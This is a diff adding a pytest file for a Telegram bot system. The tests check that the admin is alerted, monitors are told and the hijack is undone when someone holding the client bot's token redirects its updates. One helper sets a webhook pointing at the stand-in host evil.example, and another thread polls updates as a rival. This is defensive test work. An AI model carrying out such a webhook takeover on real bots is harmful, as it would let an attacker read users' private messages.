@@ -1,0 +1,207 @@
+"""E3: whoever makes a bot deaf is told to the admin, shown to monitors, and undone where that is safe."""
+
+import threading
+import time
+from collections.abc import Callable, Iterator
+
+import pytest
+import requests
+
+from bots.hearing import Hearing
+from record.health import examine
+from record.settings import Settings, load_settings
+from record.store import Store
+from tests.bots.test_fetcher import fetched, gives
+from tests.bots.test_flood import update
+from tests.bots.wire import Room
+from tests.house import ADMIN, CLIENT_BOT, MASTER_BOT, House, wait_for
+
+JULIA = 501
+PATIENCE_S = 60
+
+
+@pytest.fixture
+def bots(open_house: Callable[..., House]) -> House:
+    """Both bots at work, and a client who has been greeted."""
+    house = open_house()
+    done = house.run("worker", "init")
+    assert done.returncode == 0, done.stderr
+    house.person(ADMIN, "Ольга")
+    house.say(MASTER_BOT, ADMIN, "/start")
+    house.person(JULIA, "Юля")
+    house.say(CLIENT_BOT, JULIA, "/start")
+    house.start("worker", "client", "master")
+    house.hears(CLIENT_BOT, JULIA, "", PATIENCE_S)
+    house.hears(MASTER_BOT, ADMIN, "", PATIENCE_S)
+    return house
+
+
+def stranger(house: House, method: str, **given: object) -> requests.Response:
+    """Let somebody who knows the client bot's token call a method."""
+    with requests.Session() as session:
+        session.trust_env = False
+        return session.post(f"{house.url}/bot{CLIENT_BOT}/{method}", json=given, timeout=40)
+
+
+def hooks(house: House) -> None:
+    """Let the stranger have the client bot's updates posted to him."""
+    answer = stranger(house, "setWebhook", url="https://evil.example:8443/bot")
+    assert answer.ok, answer.text
+
+
+def taken_off(house: House) -> None:
+    """Wait until nothing is posted to the stranger any more."""
+
+    def off() -> bool:
+        return not stranger(house, "getWebhookInfo").json()["result"]["url"]
+
+    wait_for(off, "the webhook to be off", PATIENCE_S)
+
+
+def reasons(house: House) -> list[str]:
+    """Return what is wrong, as monitors and `worker status` are told."""
+    store = Store(house.store_url)
+    with store.reading() as tx:
+        found = examine(tx, load_settings(), time.time()).reasons
+    store.close()
+    return [reason for reason in found if "Бот клиентов" in reason]
+
+
+def test_e3_a_strangers_webhook_is_taken_off_and_told_once(bots: House) -> None:
+    hooks(bots)
+    bots.hears(MASTER_BOT, ADMIN, "он вёл на evil.example", PATIENCE_S)
+    taken_off(bots)
+    bots.say(CLIENT_BOT, JULIA, "Здравствуйте")
+    before = len(bots.chat(CLIENT_BOT, JULIA))
+    wait_for(lambda: len(bots.chat(CLIENT_BOT, JULIA)) > before, "an answer", PATIENCE_S)
+    hooks(bots)
+    taken_off(bots)
+    assert len(bots.heard(MASTER_BOT, ADMIN, "evil.example")) == 1
+    assert reasons(bots) == []
+    hooks(bots)
+    alarm = bots.hears(MASTER_BOT, ADMIN, "снова и снова", PATIENCE_S)
+    assert "/revoke" in alarm["text"]
+    wait_for(lambda: reasons(bots), "a reason for monitors", PATIENCE_S)
+    assert "снова и снова" in bots.run("worker", "status").stdout
+
+
+def test_e3_somebody_else_who_asks_for_the_updates_is_told(bots: House) -> None:
+    ended = threading.Event()
+
+    def asks() -> None:
+        while not ended.is_set():
+            stranger(bots, "getUpdates", timeout=25)
+
+    asking = threading.Thread(target=asks, daemon=True)
+    asking.start()
+    try:
+        alarm = bots.hears(MASTER_BOT, ADMIN, "забирает кто-то ещё", PATIENCE_S)
+        assert "вторую копию" in alarm["text"]
+        assert "/revoke" in alarm["text"]
+        assert [reason for reason in reasons(bots) if "забирает кто-то ещё" in reason]
+    finally:
+        ended.set()
+
+
+def test_e3_a_token_that_is_refused_is_told_and_over(bots: House) -> None:
+    fault = {"api": "telegram", "path": "1001.*getUpdates", "times": 1000, "status": 401}
+    bots.http.post(f"{bots.url}/sandbox/faults", json=fault).raise_for_status()
+    stranger(bots, "getMe")
+    bots.say(CLIENT_BOT, JULIA, "Здравствуйте")  # ends the request that waits
+    bots.hears(MASTER_BOT, ADMIN, "больше не принимает его токен", PATIENCE_S)
+    assert [reason for reason in reasons(bots) if "TELEGRAM_CLIENT_BOT_TOKEN" in reason]
+    bots.http.delete(f"{bots.url}/sandbox/faults")
+    bots.hears(MASTER_BOT, ADMIN, "Снова в порядке", PATIENCE_S + 60)
+    wait_for(lambda: reasons(bots) == [], "no reason any more", PATIENCE_S)
+
+
+def test_e3_updates_that_went_to_somebody_else_are_missed(room: Room) -> None:
+    """A stranger who asks without waiting causes no conflict, but numbers are missing."""
+    fetched(room, gives(update(7, 5, "а")), gives(update(9, 5, "в")), gives(update(10, 5, "г")))
+    assert standing(room) == []
+    fetched(room, gives(update(11, 5, "а")), gives(update(13, 5, "в")), gives(update(17, 5, "г")))
+    assert standing(room) == ["rival"]
+
+
+@pytest.fixture
+def room(tmp_path: object) -> Iterator[Room]:
+    """A bot of this process."""
+    made = Room(tmp_path)  # type: ignore[arg-type]
+    yield made
+    made.store.close()
+
+
+def standing(room: Room) -> list[str]:
+    with room.store.reading() as tx:
+        return list(tx.facts.get("ears.client", {}).get("why", {}))
+
+
+# The kind: what counts as deaf, by a clock of the test's own
+
+
+def after(*events: tuple[float, str], now: float) -> list[str]:
+    """Return which troubles stand at a moment after these events, in seconds since the start."""
+    hearing = Hearing("master", 0.0)
+    for at, what in events:
+        match what:
+            case "heard":
+                hearing.heard(at)
+            case "hooked":
+                hearing.hooked("evil.example", at)
+            case "rival":
+                hearing.rivalled(at)
+            case "missed":
+                hearing.missed(at)
+            case _:
+                hearing.revoked = True
+    return list(hearing.troubles(now))
+
+
+RIVAL = [(float(at), "rival") for at in (1, 4, 12)]
+HOOKS = [(float(at), "hooked") for at in (1, 100, 1000)]
+
+
+@pytest.mark.parametrize(
+    ("events", "now", "stands"),
+    [
+        ([], 60, []),
+        ([], 61, ["silent"]),
+        ([(50.0, "heard")], 110, []),
+        ([(50.0, "heard")], 111, ["silent"]),
+        ([(1.0, "revoked")], 2, ["token"]),
+        ([(1.0, "revoked"), (5.0, "heard")], 6, []),
+        (RIVAL[:2], 13, []),
+        ([(1.0, "rival"), (2.0, "rival"), (3.0, "rival")], 4, []),  # one process takes over from another
+        (RIVAL, 13, ["rival"]),
+        ([*RIVAL, (90.0, "heard")], 100, []),
+        ([(1.0, "missed"), (50.0, "heard")], 60, []),
+        ([(1.0, "missed"), (9.0, "missed"), (50.0, "heard")], 60, ["rival"]),
+        ([*HOOKS[:2], (150.0, "heard")], 160, []),
+        ([*HOOKS, (1001.0, "heard")], 1002, ["webhook"]),
+        ([*HOOKS, (3700.0, "heard")], 3710, []),
+    ],
+)
+def test_e3_what_counts_as_deaf(events: list[tuple[float, str]], now: float, stands: list[str]) -> None:
+    assert after(*events, now=now) == stands
+
+
+@pytest.mark.parametrize(
+    ("beat_s", "up_s", "expected"),
+    [(None, 1e9, 0), (59, 1e9, 0), (61, 1e9, 1), (61, 5, 0), (7200, 1e9, 1)],
+)
+def test_e3_a_bot_that_is_down_is_a_reason(
+    tmp_path: object, beat_s: float | None, up_s: float, expected: int
+) -> None:
+    store = Store(f"sqlite:///{tmp_path}/store.sqlite3")
+    now = time.time()
+    if beat_s is not None:
+        with store.transaction() as tx:
+            tx.facts.put("alive.bot.client", {"at": now - beat_s, "pid": 1, "name": "b", "heard": now})
+    with store.reading() as tx:
+        found = [one for one in examine(tx, settings(), now, up_s).reasons if "Бот клиентов не работает" in one]
+    store.close()
+    assert len(found) == expected
+
+
+def settings() -> Settings:
+    return load_settings()
